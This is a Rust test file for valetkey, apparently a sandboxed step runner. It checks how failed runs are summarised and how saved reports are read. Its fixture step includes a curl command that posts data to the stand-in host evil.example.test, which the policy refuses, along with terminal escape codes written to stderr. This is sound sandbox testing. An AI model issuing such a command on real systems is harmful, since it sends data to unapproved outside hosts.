//! What an owner reads of a run that failed, at its end and later.

use std::fs;

use super::{run, step};
use crate::support::World;
use crate::support::world::greeting;

/// Nine steps of which the sixth fails at its second attempt, after it changed and reached things and was refused some.
fn nine() -> (World, Vec<crate::support::origin::Origin>) {
    let mut world = World::new();
    let origins = vec![
        world.origin("api.example.test", greeting()),
        world.forbidden("evil.example.test"),
    ];
    world.policy("[[allow]]\nhost = \"api.example.test\"\n");
    let sixth = "mkdir out; for i in 1 2 3 4 5 6 7; do echo $i > out/$i.json; done; \
                 curl -sS https://api.example.test/rates; \
                 curl -sS --data x https://evil.example.test/; \
                 printf 'valetkey: \\033[2J\\033[31mbroken\\033[0m pipe\\n' >&2; exit 4";
    let steps: String = (1..=9)
        .map(|number| match number {
            6 => step("check", sixth, "retries = 1\nretry_on = [\"exit\"]"),
            _ => step(&format!("s{number}"), "echo fine > file", ""),
        })
        .collect();
    world.file("steps.toml", &steps);
    (world, origins)
}

#[test]
fn the_end_of_a_failed_run_fits_a_screen_and_says_what_matters() {
    let (world, _origins) = nine();
    let finished = world
        .valetkey(&["run", "--steps", "steps.toml"])
        .exited(4)
        .says(">  6  check  exit code 4")
        .says("attempt 2, 7 files, 2 requests, 2 refused")
        .says("valetkey: step 6 of 9 (`check`): failed with exit code 4")
        .says("said         | valetkey: broken pipe")
        .says("on stdout    | hello")
        .says("changed      7 files (kept): out/1.json, ")
        .says("and 2 more")
        .says("reached      api.example.test: 2 requests")
        .says("refused      evil.example.test: host-not-allowed, 2 times")
        .says("add [[allow]] host = \"evil.example.test\" to valetkey.toml")
        .says("retried      attempt 1 failed with exit code 4")
        .says("not reached  7 s7, 8 s8, 9 s9")
        .says("--step 6  # all output")
        .says("valetkey changes show run_");
    let (_, end) = finished.stderr.split_once("\n\n").expect("an end");
    let lines: Vec<&str> = end.lines().collect();
    assert!(lines.len() <= 36, "{} lines: {end}", lines.len());
    let widest = lines.iter().map(|line| line.chars().count()).max();
    assert!(widest <= Some(80), "{widest:?}: {end}");
}

#[test]
fn a_report_is_read_later_whole_or_a_step_of_it_and_as_it_was_saved() {
    let (world, _origins) = nine();
    let saved = run_json(&world);
    let run = saved["run"].as_str().unwrap();
    for named in [run, &run[..run.len() - 2], &run["run_".len()..], "last"] {
        let read = world.valetkey(&["report", named, "--json"]).passed().json();
        assert_eq!(read, saved, "{named}");
    }
    for wanted in ["check", "6"] {
        let read = world.valetkey(&["report", "--step", wanted, "--json"]);
        assert_eq!(read.passed().json(), saved["steps"][5], "{wanted}");
        world
            .valetkey(&["report", run, "--step", wanted])
            .passed()
            .says("step 6 of 9 (`check`): failed with exit code 4")
            .says("of memory at most");
    }
    assert_eq!(saved["steps"][5]["denied"][0]["times"], 2);
    assert_eq!(saved["steps"][5]["first_changed"][6], "out/7.json");
    world
        .valetkey(&["report", "--step", "10"])
        .exited(3)
        .says("its steps are: s1, ");
    world.valetkey(&["report", "run_0"]).exited(3);
}

fn run_json(world: &World) -> serde_json::Value {
    world
        .valetkey(&["run", "--json", "--steps", "steps.toml"])
        .exited(4)
        .json()
}

#[test]
fn a_step_that_passed_is_shown_without_advice() {
    let world = World::new();
    run(&world, &step("one", "echo done", ""), &[])
        .passed()
        .says("one step passed");
    world
        .valetkey(&["report", "--step", "one"])
        .passed()
        .says("| done")
        .says_nothing_of("next");
}

#[test]
fn a_quiet_run_still_says_why_nothing_ran() {
    let world = World::new();
    world.file("sub/file", "");
    world.policy("[sandbox]\nworkspace = { path = \"sub\", mode = \"overlay\" }");
    fs::remove_dir_all(world.path("project/sub")).unwrap();
    run(&world, &step("one", "true", ""), &["--quiet"])
        .exited(78)
        .says("project/sub");
}
